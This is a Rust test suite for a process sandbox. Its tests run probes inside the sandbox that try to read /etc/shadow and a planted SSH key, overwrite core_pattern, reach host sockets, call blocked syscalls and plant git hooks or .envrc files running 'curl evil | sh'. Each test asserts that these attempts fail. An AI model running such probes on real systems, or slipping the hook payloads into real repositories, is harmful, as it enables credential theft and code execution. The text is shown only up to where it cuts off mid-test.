//! Confinement: G1-G5, G9. Each test checks both halves: the attempt fails, and the
//! legitimate operation next to it works. The host checks the world itself where it can.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::Path;

use stockade_protocol::{Access, Job, Mechanism, Status};

use crate::support::*;

/// A python prelude: `attempt(label, fn)` prints the label and OK or the errno name.
pub(crate) const PROBE: &str = r#"
import os, sys, errno
def attempt(label, fn):
    try:
        fn()
        print(label, "OK")
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, e.errno))
"#;

fn probe_py(body: &str) -> Job {
    py(&format!("{PROBE}\n{body}"))
}

fn line<'a>(out: &'a str, label: &str) -> &'a str {
    out.lines().find_map(|l| l.strip_prefix(label).map(str::trim)).unwrap_or_else(|| panic!("no {label} in {out}"))
}

#[test]
fn g1_reads_system_dirs_but_no_host_secret_exists() {
    require!("g1_reads_system_dirs_but_no_host_secret_exists");
    let dir = host_dir("secret");
    let canary = dir.join("id_rsa");
    std::fs::write(&canary, "CANARY-7f3a").unwrap();
    let r = run(probe_py(&format!(
        r#"
attempt("usr", lambda: open("/usr/bin/python3", "rb").read(4))
attempt("canary", lambda: open("{}").read())
attempt("shadow", lambda: open("/etc/shadow").read())
attempt("root", lambda: os.listdir("/root"))
attempt("home", lambda: os.listdir("/home"))
attempt("run", lambda: os.listdir("/run"))
attempt("var", lambda: os.listdir("/var"))
print("toplevel", sorted(os.listdir("/")))
import hashlib
for name in ["ld.so.cache", "ld.so.conf", "mime.types", "localtime"]:
    path = "/etc/" + name
    if os.path.islink(path):
        print("etc", name, "link", os.readlink(path), os.path.exists(path))
    elif os.path.exists(path):
        print("etc", name, "file", hashlib.sha256(open(path, "rb").read()).hexdigest())
"#,
        canary.display()
    )));
    let out = stdout(&r);
    assert_eq!(r.status, Status::Exited { code: 0 }, "{}", stderr(&r));
    assert_eq!(line(&out, "usr"), "OK");
    for label in ["canary", "shadow", "root", "home", "run", "var"] {
        assert_eq!(line(&out, label), "ENOENT", "{label}: {out}");
    }
    assert!(!out.contains("CANARY-7f3a"));
    // The system directories the view binds are the host's own /lib* (multiarch packages
    // add /lib32 or /libx32), plus the fixed set.
    let mut want: Vec<String> = ["bin", "dev", "etc", "proc", "sbin", "tmp", "usr"].map(String::from).to_vec();
    want.extend(
        ["lib", "lib32", "lib64", "libx32"]
            .iter()
            .filter(|d| std::path::Path::new("/").join(d).exists())
            .map(|d| (*d).to_owned()),
    );
    want.sort();
    let want = format!("[{}]", want.iter().map(|d| format!("'{d}'")).collect::<Vec<_>>().join(", "));
    assert_eq!(line(&out, "toplevel"), want, "the view's top level");
    // The host's small /etc files are there, as the host has them: the same bytes, or a
    // link to the same target that resolves in the view.
    for name in ["ld.so.cache", "ld.so.conf", "mime.types", "localtime"] {
        let host = Path::new("/etc").join(name);
        let want = match std::fs::symlink_metadata(&host) {
            Ok(m) if m.file_type().is_symlink() => {
                let target = std::fs::read_link(&host).unwrap();
                Some(format!("link {} {}", target.display(), if host.exists() { "True" } else { "False" }))
            }
            Ok(_) => {
                let sum = std::process::Command::new("sha256sum").arg(&host).output().unwrap();
                let sum = String::from_utf8(sum.stdout).unwrap();
                Some(format!("file {}", sum.split_whitespace().next().unwrap()))
            }
            Err(_) => None,
        };
        let seen = out.lines().find_map(|l| l.strip_prefix(&format!("etc {name} "))).map(str::to_owned);
        assert_eq!(seen, want, "/etc/{name} in the view: {out}");
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn g1_writes_land_only_in_private_tmp_and_a_writable_workspace() {
    require!("g1_writes_land_only_in_private_tmp_and_a_writable_workspace");
    let ws = host_dir("ws-rw");
    let job = probe_py(
        r#"
attempt("tmp", lambda: open("/tmp/scratch", "w").write("x"))
attempt("usr", lambda: open("/usr/evil", "w").write("x"))
attempt("etc", lambda: open("/etc/passwd", "a").write("x"))
attempt("etc-copied", lambda: open("/etc/ld.so.cache", "a").write("x"))
attempt("root", lambda: open("/evil", "w").write("x"))
attempt("ws", lambda: open("/workspace/out.txt", "w").write("written by guest"))
attempt("proc", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/evil"))
"#,
    )
    .with_workspace(&ws, Access::ReadWrite)
    .unwrap();
    let r = run(job);
    let out = stdout(&r);
    assert_eq!(line(&out, "tmp"), "OK", "{out}");
    assert_eq!(line(&out, "ws"), "OK", "{out}");
    for label in ["usr", "etc", "etc-copied", "root", "proc"] {
        assert!(["EROFS", "EACCES", "EPERM"].contains(&line(&out, label)), "{label}: {out}");
    }
    assert_eq!(std::fs::read_to_string(ws.join("out.txt")).unwrap(), "written by guest");
    assert!(!Path::new("/usr/evil").exists() && !Path::new("/evil").exists());
    // A read-only workspace can be read and not written.
    std::fs::write(ws.join("in.txt"), "input").unwrap();
    let ro = probe_py(
        r#"
attempt("read", lambda: print(open("/workspace/in.txt").read()))
attempt("write", lambda: open("/workspace/new.txt", "w").write("x"))
attempt("trunc", lambda: open("/workspace/in.txt", "w"))
"#,
    )
    .with_workspace(&ws, Access::ReadOnly)
    .unwrap();
    let out = stdout(&run(ro));
    assert!(out.contains("input"), "{out}");
    assert!(["EROFS", "EACCES"].contains(&line(&out, "write")), "{out}");
    assert!(["EROFS", "EACCES"].contains(&line(&out, "trunc")), "{out}");
    assert_eq!(std::fs::read_to_string(ws.join("in.txt")).unwrap(), "input");
    assert!(!ws.join("new.txt").exists());
    std::fs::remove_dir_all(&ws).unwrap();
}

#[test]
fn g1_symlinks_and_host_sockets_lead_nowhere() {
    require!("g1_symlinks_and_host_sockets_lead_nowhere");
    let secret_dir = host_dir("sock");
    let canary = secret_dir.join("canary");
    std::fs::write(&canary, "CANARY-91bd").unwrap();
    let sock_path = secret_dir.join("docker.sock");
    let listener = UnixListener::bind(&sock_path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let ws = host_dir("ws-link");
    std::os::unix::fs::symlink(&canary, ws.join("link")).unwrap();
    let job = probe_py(&format!(
        r#"
import socket
attempt("link", lambda: open("/workspace/link").read())
def conn():
    s = socket.socket(socket.AF_UNIX)
    s.connect("{}")
attempt("sock", conn)
"#,
        sock_path.display()
    ))
    .with_workspace(&ws, Access::ReadWrite)
    .unwrap();
    let out = stdout(&run(job));
    assert_eq!(line(&out, "link"), "ENOENT", "{out}");
    assert_eq!(line(&out, "sock"), "ENOENT", "{out}");
    assert!(listener.accept().is_err(), "the host socket was reached");
    let _ = std::fs::remove_dir_all(&secret_dir);
    let _ = std::fs::remove_dir_all(&ws);
}

#[test]
fn g2_never_host_root_and_no_capabilities() {
    require!("g2_never_host_root_and_no_capabilities");
    let r = run(py(r#"
import os
st = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines() if ":" in l)
print("uid", os.getuid(), os.geteuid())
for k in ("CapEff", "CapPrm", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
    print(k, st[k].strip())
"#));
    let out = stdout(&r);
    assert!(!line(&out, "uid").starts_with("0 "), "{out}");
    for k in ["CapEff", "CapPrm", "CapBnd", "CapAmb"] {
        assert_eq!(line(&out, k), "0000000000000000", "{k}: {out}");
    }
    assert_eq!(line(&out, "NoNewPrivs"), "1");
    assert_eq!(line(&out, "Seccomp"), "2");
}

#[test]
fn g3_no_network_and_host_listeners_stay_silent() {
    require!("g3_no_network_and_host_listeners_stay_silent");
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let (tport, uport) = (tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port());
    let r = run(probe_py(&format!(
        r#"
import socket
def tcp():
    s = socket.create_connection(("127.0.0.1", {tport}), timeout=2)
attempt("tcp", tcp)
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfil", ("127.0.0.1", {uport}))
attempt("udp", udp)
def bind():
    s = socket.socket()
    s.bind(("0.0.0.0", 8080)); s.listen()
attempt("bind", bind)
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
def pair():
    a, b = socket.socketpair(); a.send(b"x"); b.recv(1)
attempt("socketpair", pair)
"#
    )));
    let out = stdout(&r);
    assert_ne!(line(&out, "tcp"), "OK", "{out}");
    assert_ne!(line(&out, "udp"), "OK", "{out}");
    assert_ne!(line(&out, "bind"), "OK", "{out}");
    assert_eq!(line(&out, "packet"), "EPERM", "{out}");
    assert_eq!(line(&out, "socketpair"), "OK", "{out}");
    assert!(tcp.accept().is_err(), "the host TCP listener was reached");
    let mut buf = [0u8; 16];
    assert!(udp.recv_from(&mut buf).is_err(), "the host UDP listener got a datagram");
}

#[test]
fn g4_seccomp_refuses_the_listed_syscalls() {
    require!("g4_seccomp_refuses_the_listed_syscalls");
    let r = run(py(r#"
import ctypes, os, errno
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(label, nr, *args):
    r = libc.syscall(nr, *[ctypes.c_ulong(a) for a in args])
    e = ctypes.get_errno()
    print(label, "OK" if r >= 0 else errno.errorcode.get(e, e))
sc("getpid", 39)
sc("unshare_user", 272, 0x10000000)
sc("unshare_ns", 272, 0x00020000)
sc("io_uring_setup", 425, 1, 0)
sc("clone3", 435, 0, 0)
sc("bpf", 321, 0, 0, 0)
sc("ptrace", 101, 16, 1, 0, 0)
sc("keyctl", 250, 0, 0)
sc("userfaultfd", 323, 0)
sc("perf_event_open", 298, 0, 0, -1 & 0xffffffff, -1 & 0xffffffff, 0)
sc("mount", 165, 0, 0, 0, 0, 0)
sc("chroot", 161, 0)
sc("setns", 308, 0, 0)
sc("open_by_handle_at", 304, 0, 0, 0)
sc("personality_set", 135, 0x0040000)
sc("personality_query", 135, 0xffffffff)
sc("tiocsti", 16, 0, 0x5412, 0)
sc("clone_newpid", 56, 0x20000000 | 17, 0, 0, 0, 0)
sc("modify_ldt", 154, 0, 0, 0)
sc("kcmp", 312, os.getpid(), os.getpid(), 0, 0, 0)
sc("mbind", 237, 0, 0, 0, 0, 0, 0)
sc("x32_getpid", 0x40000000 | 39)
sc("statx", 332, -100 & 0xffffffffffffffff, 0, 0, 0, 0)
sc("close_range", 436, 1000, 1001, 0)
import socket
for label, args in [("tcp", (2, 1, 0)), ("tcp6", (10, 1, 6)), ("udp", (2, 2, 0)), ("mptcp", (2, 1, 262)),
                    ("mptcp6", (10, 0x80001, 262)), ("sctp", (2, 1, 132)), ("seqpacket", (2, 5, 0)), ("raw", (2, 3, 1))]:
    try:
        socket.socket(*args).close()
        print(label, "OK")
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, e.errno))
pid = os.fork()
if pid == 0:
    os._exit(7)
print("fork", os.waitpid(pid, 0)[1] >> 8)
"#));
    let out = stdout(&r);
    assert_eq!(line(&out, "getpid"), "OK", "{out}");
    assert_eq!(line(&out, "fork"), "7", "{out}");
    assert_eq!(line(&out, "personality_query"), "OK", "{out}");
    // Allowed calls pass the allowlist (statx with a null path: EFAULT from the kernel itself).
    assert_eq!(line(&out, "statx"), "EFAULT", "{out}");
    assert_eq!(line(&out, "close_range"), "OK", "{out}");
    // Everything off the allowlist, the x32 ABI included, is ENOSYS.
    for label in ["io_uring_setup", "clone3", "modify_ldt", "kcmp", "mbind", "x32_getpid"] {
        assert_eq!(line(&out, label), "ENOSYS", "{label}: {out}");
    }
    for label in [
        "unshare_user",
        "unshare_ns",
        "bpf",
        "ptrace",
        "keyctl",
        "userfaultfd",
        "perf_event_open",
        "mount",
        "chroot",
        "setns",
        "open_by_handle_at",
        "personality_set",
        "tiocsti",
        "clone_newpid",
        // hold-the-line, finding 11: MPTCP and SCTP are outside landlock's TCP rules (MPTCP
        // bound and listened where TCP got EACCES).
        "mptcp",
        "mptcp6",
        "sctp",
        "seqpacket",
        "raw",
    ] {
        assert_eq!(line(&out, label), "EPERM", "{label}: {out}");
    }
    for label in ["tcp", "tcp6", "udp"] {
        assert_eq!(line(&out, label), "OK", "{label}: {out}");
    }
}

#[test]
fn g4_seccomp_policy_is_the_reviewed_one() {
    let want = include_str!("seccomp_policy.txt");
    let got = stockade_process::seccomp_policy_text();
    if std::env::var_os("UPDATE_EXPECT").is_some() {
        std::fs::write(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/seccomp_policy.txt"), &got).unwrap();
        return;
    }
    assert_eq!(got, want, "the seccomp policy changed; review it and bless with UPDATE_EXPECT=1");
}

/// A generated seccomp profile's checked-in copy at `path`: written anew under UPDATE_EXPECT
/// (then `None`, and the test ends), else it must be exactly `profile`, and is returned.
fn checked_in_profile(path: &str, profile: &serde_json::Value) -> Option<serde_json::Value> {
    let got = serde_json::to_string_pretty(profile).unwrap() + "\n";
    if std::env::var_os("UPDATE_EXPECT").is_some() {
        std::fs::write(path, &got).unwrap();
        return None;
    }
    let want = std::fs::read_to_string(path).unwrap_or_default();
    assert!(got == want, "{path} is stale: the seccomp policy changed; bless with UPDATE_EXPECT=1");
    Some(serde_json::from_str(&want).unwrap())
}

/// `stockade serve`'s container (deploy/) runs under this tier's owner profile: its checked-in
/// copy must be what this tier generates (bless with UPDATE_EXPECT=1 after reviewing), it lets
/// through every call a guest may make (or the guest's own filter, applied inside, would be
/// moot and programs would break), and it still refuses what neither makes.
#[test]
fn g4_the_deploy_profile_is_current() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../deploy/seccomp/stockade-serve.json");
    let Some(v) = checked_in_profile(path, &stockade_process::seccomp_owner_profile()) else { return };
    let allowed: Vec<&str> =
        v["syscalls"][0]["names"].as_array().unwrap().iter().map(|n| n.as_str().unwrap()).collect();
    let guest: serde_json::Value = stockade_process::seccomp_oci_profile();
    for rule in guest["syscalls"].as_array().unwrap().iter().filter(|r| r["action"] == "SCMP_ACT_ALLOW") {
        for name in rule["names"].as_array().unwrap() {
            assert!(allowed.contains(&name.as_str().unwrap()), "a guest may call {name}, the container may not");
        }
    }
    for owner in ["unshare", "mount", "pivot_root", "setns"] {
        assert!(allowed.contains(&owner), "{owner}");
    }
    for refused in ["ptrace", "bpf", "keyctl", "kexec_load", "init_module", "reboot", "perf_event_open", "userfaultfd"]
    {
        assert!(!allowed.contains(&refused), "{refused} is allowed");
    }
    assert_eq!(v["defaultAction"], "SCMP_ACT_ERRNO");
}

/// The docker tier applies this tier's policy as its seccomp profile: its checked-in copy
/// must be what this tier generates (bless with UPDATE_EXPECT=1 after reviewing the change).
#[test]
fn g4_the_docker_tiers_copy_of_the_policy_is_current() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../stockade-docker/src/seccomp.json");
    let Some(v) = checked_in_profile(path, &stockade_process::seccomp_oci_profile()) else { return };
    let names = |action: &str| -> Vec<String> {
        v["syscalls"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["action"] == action && r["args"].as_array().is_none_or(Vec::is_empty))
            .flat_map(|r| r["names"].as_array().unwrap().iter().map(|n| n.as_str().unwrap().to_owned()))
            .collect()
    };
    // io_uring is ENOSYS, as in this tier; nothing namespace- or mount-shaped is allowed
    // unconditionally, and the mode-setting calls only without set-id bits.
    assert!(names("SCMP_ACT_ERRNO").iter().any(|n| n == "io_uring_setup"));
    let plain = names("SCMP_ACT_ALLOW");
    for n in ["clone", "clone3", "unshare", "mount", "ptrace", "bpf", "io_uring_setup", "chmod", "openat", "socket"] {
        assert!(!plain.iter().any(|p| p == n), "{n} is allowed unconditionally");
    }
    assert_eq!(v["defaultAction"], "SCMP_ACT_ERRNO");
}

#[test]
fn g4_host_processes_cannot_be_signalled_or_seen() {
    require!("g4_host_processes_cannot_be_signalled_or_seen");
    let mut victim = std::process::Command::new("/usr/bin/sleep").arg("30").spawn().unwrap();
    let vpid = victim.id();
    let r = run(probe_py(&format!(
        r#"
import signal
attempt("kill_host_pid", lambda: os.kill({vpid}, signal.SIGKILL))
attempt("kill_all", lambda: os.kill(-1, signal.SIGKILL))
print("pids", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
"#
    )));
    let out = stdout(&r);
    assert_ne!(line(&out, "kill_host_pid"), "OK", "{out}");
    assert!(victim.try_wait().unwrap().is_none(), "a host process was killed from inside");
    let pids = line(&out, "pids");
    assert!(pids.starts_with("[1, 2"), "the guest sees host processes: {pids}");
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[test]
fn g5_a_guest_that_stops_reading_stdin_or_closes_its_stdout_is_a_normal_outcome() {
    require!("g5_a_guest_that_stops_reading_stdin_or_closes_its_stdout_is_a_normal_outcome");
    // 8 MiB of stdin, of which the guest reads 10 bytes before it closes its stdin and stdout:
    // the supervisor's writer hits EPIPE and the stdout pipe ends early; the run goes on to its
    // own end, and nothing is lost of what the guest did write.
    let job = sh("head -c 10; exec 0<&- 1>&-; sleep 0.2; echo still-here >&2; exit 3")
        .with_stdin(vec![b'x'; 8 << 20])
        .unwrap();
    for (name, tier) in [("one-shot", tier()), ("pooled", tier().pool(1))] {
        let start = std::time::Instant::now();
        let r = block_on(tier.run(&job)).unwrap();
        assert_eq!(r.status, Status::Exited { code: 3 }, "{name}: {r:#?}");
        assert_eq!(stdout(&r), "xxxxxxxxxx", "{name}");
        assert_eq!(stderr(&r), "still-here\n", "{name}");
        assert!(start.elapsed() < std::time::Duration::from_secs(5), "{name}: {:?}", start.elapsed());
    }
}

/// The host's view of `pid`: its parent and what each of its descriptors 0–2 points to.
fn parent_and_stdio(pid: u32) -> (u32, Vec<String>) {
    let ppid = stockade_test_support::parent_of(pid).unwrap();
    let fds = (0..=2)
        .map(|fd| {
            std::fs::read_link(format!("/proc/{pid}/fd/{fd}"))
                .map_or_else(|e| format!("({e})"), |l| l.display().to_string())
        })
        .collect();
    (ppid, fds)
}

#[test]
fn g5_the_guests_stdio_pipes_are_held_by_the_guest_alone() {
    require!("g5_the_guests_stdio_pipes_are_held_by_the_guest_alone");
    for (name, tier) in [("one-shot", tier()), ("pooled", tier().pool(1))] {
        let marker = format!("stdio-holders-{name}-{}", std::process::id());
        let job = sh(&format!("echo started; sleep 3; : {marker}")).with_stdin(b"x".to_vec()).unwrap();
        let run = std::thread::spawn(move || block_on(tier.run(&job)).unwrap());
        // The guest, found by the host in /proc, then its parents: init, then the helper.
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        let guest = loop {
            if let Some(&pid) = host_pids_with(&marker).first() {
                break pid;
            }
            assert!(std::time::Instant::now() < deadline, "{name}: the guest never showed up");
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        let (init, pipes) = parent_and_stdio(guest);
        assert!(pipes.iter().all(|p| p.starts_with("pipe:")), "{name}: the guest's stdio: {pipes:?}");
        let (helper, init_fds) = parent_and_stdio(init);
        let (_, helper_fds) = parent_and_stdio(helper);
        for (who, fds) in [("init", &init_fds), ("helper", &helper_fds)] {
            assert!(fds.iter().all(|f| f == "/dev/null"), "{name}: {who} holds {fds:?} (the guest's: {pipes:?})");
        }
        let r = run.join().unwrap();
        assert_eq!(
            (r.status.clone(), stdout(&r)),
            (Status::Exited { code: 0 }, "started\n".to_owned()),
            "{name}: {r:#?}"
        );
    }
}

#[test]
fn g5_environment_is_exactly_the_allowlist() {
    require!("g5_environment_is_exactly_the_allowlist");
    let job = Job::command("/usr/bin/env", Vec::<String>::new()).unwrap().with_env("GRANTED", "yes").unwrap();
    let r = run(job);
    assert_eq!(stdout(&r), "GRANTED=yes\n", "{r:#?}");
    let bare = run(Job::command("/usr/bin/env", Vec::<String>::new()).unwrap());
    assert_eq!(stdout(&bare), "");
}

#[test]
fn g5_stdin_is_the_jobs_bytes_or_empty() {
    require!("g5_stdin_is_the_jobs_bytes_or_empty");
    let r =
        run(Job::command("/usr/bin/cat", Vec::<String>::new()).unwrap().with_stdin(b"from the job".to_vec()).unwrap());
    assert_eq!(stdout(&r), "from the job");
    let r = run(Job::command("/usr/bin/cat", Vec::<String>::new()).unwrap());
    assert_eq!((stdout(&r).as_str(), &r.status), ("", &Status::Exited { code: 0 }));
}

#[test]
fn g5_only_descriptors_0_to_2_reach_the_guest() {
    require!("g5_only_descriptors_0_to_2_reach_the_guest");
    // Open host files in this process: none may leak.
    let mut held = std::fs::File::open("/proc/self/status").unwrap();
    let mut s = String::new();
    held.read_to_string(&mut s).unwrap();
    let r = run(py("import os\nprint(sorted(int(f) for f in os.listdir('/proc/self/fd')))"));
    assert_eq!(stdout(&r), "[0, 1, 2, 3]\n", "fd 3 is listdir's own handle: {r:#?}");
}

#[test]
fn g5_signals_reach_the_guest_at_their_defaults() {
    require!("g5_signals_reach_the_guest_at_their_defaults");
    // The supervisor and helper are Rust programs, which ignore SIGPIPE; the guest must not
    // inherit that (a pipeline's writer dies of SIGPIPE, as outside the sandbox).
    let r = run(sh("grep -E '^Sig(Ign|Blk)' /proc/self/status; yes | head -c 2 >/dev/null; echo yes-status=$?"));
    assert_eq!(stdout(&r), "SigBlk:\t0000000000000000\nSigIgn:\t0000000000000000\nyes-status=0\n", "{r:#?}");
    let r = run(Job::command("/bin/sh", ["-c", "yes | head -c 2 >/dev/null; exit 0"]).unwrap());
    assert_eq!(r.status, Status::Exited { code: 0 }, "{r:#?}");
}

#[test]
fn g1_a_terminal_exists_only_when_asked_and_dev_tty_says_enxio_without_one() {
    require!("g1_a_terminal_exists_only_when_asked_and_dev_tty_says_enxio_without_one");
    let probe = "for fd in 0 1 2; do test -t $fd && echo tty$fd; done; test -e /dev/tty && echo dev-tty; ls /dev | tr '\\n' ' '";
    // The terminal has its name (ttyname), as under `docker run -t`, and is the only node
    // under /dev/pts. Opened by that name it is the supervisor's user's pty: the guest of a
    // non-root supervisor (the same user) writes through it; a root supervisor's guest
    // (`nobody`) cannot, because the host's pty is never given to another host user (it
    // writes through /dev/tty instead).
    let named = "t=$(tty) && case $t in /dev/pts/[0-9]*) echo named;; *) echo \"named $t\";; esac; \
                 ls /dev/pts | wc -l; { echo via-its-name >\"$t\"; } 2>/dev/null || echo not-its-owner";
    use std::os::unix::fs::MetadataExt;
    let by_name = if std::fs::metadata("/proc/self").unwrap().uid() == 0 { "not-its-owner" } else { "via-its-name" };
    let plain = run(sh(probe));
    assert_eq!(stdout(&plain), "dev-tty\nfd full null random shm stderr stdin stdout tty urandom zero ", "{plain:#?}");
    // Without a terminal, /dev/tty is there and opening it fails as with no controlling
    // terminal (ENXIO), as Codex's sandbox tests expect, not as a missing file (ENOENT).
    let open_tty = "import errno, os\nfor flags in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY):\n    try:\n        os.open('/dev/tty', flags)\n        print('opened')\n    except OSError as e:\n        print(errno.errorcode[e.errno])";
    let r = run(Job::command("/usr/bin/python3", ["-c", open_tty]).unwrap());
    assert_eq!(stdout(&r), "ENXIO\nENXIO\nENXIO\n", "{r:#?}");
    let tier = tier().tty();
    let job = sh(&format!(
        "{probe}; echo; {named}; read line; echo got:$line; echo to-stderr >&2; echo via-dev-tty >/dev/tty; \
         stty -a | grep -o -- '-echo ' ; read rest || echo eof"
    ))
    .with_stdin(b"typed input\n".to_vec())
    .unwrap();
    let r = block_on(tier.run(&job)).unwrap();
    assert_eq!(r.status, Status::Exited { code: 0 }, "{r:#?}");
    let out = stdout(&r).replace("\r\n", "\n");
    assert_eq!(
        out,
        format!(
            "tty0\ntty1\ntty2\ndev-tty\nfd full null pts random shm stderr stdin stdout tty urandom zero \n\
             named\n1\n{by_name}\ngot:typed input\nto-stderr\nvia-dev-tty\n-echo \neof\n"
        ),
        "{r:#?}"
    );
    assert!(r.stderr.bytes.is_empty());
    // Its window size is 0x0 unless the tier is given one (the CLI gives its own terminal's),
    // and `terminal_size` finds none on what is not a terminal.
    let size = sh("stty size");
    assert_eq!(stdout(&block_on(tier.run(&size)).unwrap()), "0 0\r\n");
    assert_eq!(stdout(&block_on(tier.clone().tty_size(24, 100).run(&size)).unwrap()), "24 100\r\n");
    let (reader, _writer) = std::io::pipe().unwrap();
    assert_eq!(stockade_process::terminal_size(std::os::fd::AsFd::as_fd(&reader)), None);
    // The terminal does not widen the kernel surface: injecting input is still refused.
    let r = block_on(tier.run(&py(
        "import fcntl, termios\ntry:\n fcntl.ioctl(0, termios.TIOCSTI, b'x')\nexcept OSError as e:\n print(e.errno)",
    )))
    .unwrap();
    assert_eq!(stdout(&r).trim(), "1", "{r:#?}");
}

#[test]
fn g9_report_lists_every_mechanism() {
    require!("g9_report_lists_every_mechanism");
    let r = run(sh("echo hi"));
    assert_eq!(stdout(&r), "hi\n");
    for m in [
        Mechanism::UserNamespace,
        Mechanism::PidNamespace,
        Mechanism::MountNamespace,
        Mechanism::NetNamespace,
        Mechanism::IpcNamespace,
        Mechanism::UtsNamespace,
        Mechanism::Landlock,
        Mechanism::Seccomp,
        Mechanism::NoNewPrivs,
        Mechanism::CapabilitiesDropped,
        Mechanism::Rlimits,
        Mechanism::Deadline,
        Mechanism::OutputBudget,
    ] {
        assert!(r.enforced(m), "{m:?} missing from {:#?}", r.enforcement);
    }
    let memory_by = r.enforced(Mechanism::Cgroup) || r.enforcement.iter().any(|e| e.detail.contains(", as "));
    assert!(memory_by, "memory is limited by neither a cgroup nor RLIMIT_AS: {:#?}", r.enforcement);
}

#[test]
fn g10_protected_paths_in_a_writable_workspace_stay_read_only() {
    require!("g10_protected_paths_in_a_writable_workspace_stay_read_only");
    let ws = host_dir("ws-protected");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(ws.join(".git/objects")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(ws.join(".bashrc"), "# rc\n").unwrap();
    let job = probe_py(
        r#"
attempt("hook", lambda: open("/workspace/.git/hooks/pre-commit", "w").write("curl evil | sh"))
attempt("config", lambda: open("/workspace/.git/config", "a").write("[core]\n\thooksPath = /tmp"))
attempt("bashrc", lambda: open("/workspace/.bashrc", "a").write("evil"))
attempt("rename_git", lambda: os.rename("/workspace/.git", "/workspace/git.bak"))
attempt("rename_hooks", lambda: os.rename("/workspace/.git/hooks", "/workspace/.git/hooks.bak"))
attempt("unlink_bashrc", lambda: os.unlink("/workspace/.bashrc"))
attempt("objects", lambda: open("/workspace/.git/objects/ab", "w").write("history is writable"))
attempt("create_vscode", lambda: os.mkdir("/workspace/.vscode"))
attempt("create_envrc", lambda: open("/workspace/.envrc", "w").write("curl evil | sh"))
attempt("create_info", lambda: os.makedirs("/workspace/.git/info"))
attempt("ordinary", lambda: open("/workspace/notes.txt", "w").write("fine"))
"#,
    )
    .with_workspace(&ws, Access::ReadWrite)
    .unwrap();
    let r = run(job);
    let out = stdout(&r);
    for label in ["hook", "config", "bashrc"] {
        assert!(["EROFS", "EACCES"].contains(&line(&out, label)), "{label}: {out}");
    }
    for label in ["rename_git", "rename_hooks", "unlink_bashrc"] {
        assert!(["EBUSY", "EROFS", "EACCES"].contains(&line(&out, label)), "{label}: {out}");
    }
    for label in ["ordinary", "objects"] {
        assert_eq!(line(&out, label), "OK", "{label}: {out}");
    }
    // Absent protected paths can be made during the run, and are gone after it; the report
    // says what was protected and what was removed.
    for label in ["create_vscode", "create_envrc", "create_info"] {
        assert_eq!(line(&out, label), "OK", "{label}: {out}");
    }
    let details: Vec<&str> =
        r.enforcement.iter().filter(|e| e.mechanism == Mechanism::MountNamespace).map(|e| e.detail.as_str()).collect();
    assert!(details[0].contains("read-only inside the workspace: .git/hooks .git/config .bashrc;"), "{details:?}");
    assert!(details[1].ends_with("where a protected path was absent: .envrc .git/info .vscode"), "{details:?}");
    assert_eq!(r.swept, [".envrc", ".git/info", ".vscode"], "{details:?}");
    // The host sees nothing planted, and the ordinary work.
    for planted in [".git/hooks/pre-commit", ".vscode", ".envrc", ".git/info", "git.bak"] {
        assert!(std::fs::symlink_metadata(ws.join(planted)).is_err(), "{planted} is on the host");
    }
    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), "[core]\n");
    assert_eq!(std::fs::read_to_string(ws.join(".bashrc")).unwrap(), "# rc\n");
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "fine");
    assert_eq!(std::fs::read_to_string(ws.join(".git/objects/ab")).unwrap(), "history is writable");
    // A protected path that is a symlink refuses the grant.
    let linked = host_dir("ws-linked");
    std::os::unix::fs::symlink("/tmp", linked.join(".git")).unwrap();
    let refused = block_on(tier().run(&sh("echo ran").with_workspace(&linked, Access::ReadWrite).unwrap()));
    assert!(
        matches!(&refused, Err(stockade_process::RunError::Misconfigured(m)) if m.contains(".git in the read-write workspace")),
        "{refused:?}"
    );
    let _ = std::fs::remove_dir_all(&ws);
    let _ = std::fs::remove_dir_all(&linked);
}

#[test]
fn g10_git_commits_in_a_writable_workspace_and_cannot_plant_a_hook() {
    require!("g10_git_commits_in_a_writable_workspace_and_cannot_plant_a_hook");
    let Some(git) = ["/usr/bin/git", "/usr/local/bin/git"].into_iter().find(|g| Path::new(g).exists()) else {
        assert!(std::env::var_os("STOCKADE_REQUIRE_ALL").is_none(), "git is not installed");
        eprintln!("SKIPPED g10_git_commits: no git");
        return;
    };
    let ws = host_dir("ws-git");
    let host_git = |args: &[&str]| {
        let o = std::process::Command::new(git).args(args).current_dir(&ws).output().unwrap();
        assert!(o.status.success(), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    host_git(&["init", "-q", "-b", "main"]);
    std::fs::write(ws.join("a.txt"), "one\n").unwrap();
    let script = format!(
        "cd /workspace && export HOME=/tmp GIT_AUTHOR_NAME=g GIT_AUTHOR_EMAIL=g@x GIT_COMMITTER_NAME=g GIT_COMMITTER_EMAIL=g@x \
         && {git} add a.txt && {git} commit -q -m from-the-sandbox && echo committed; \
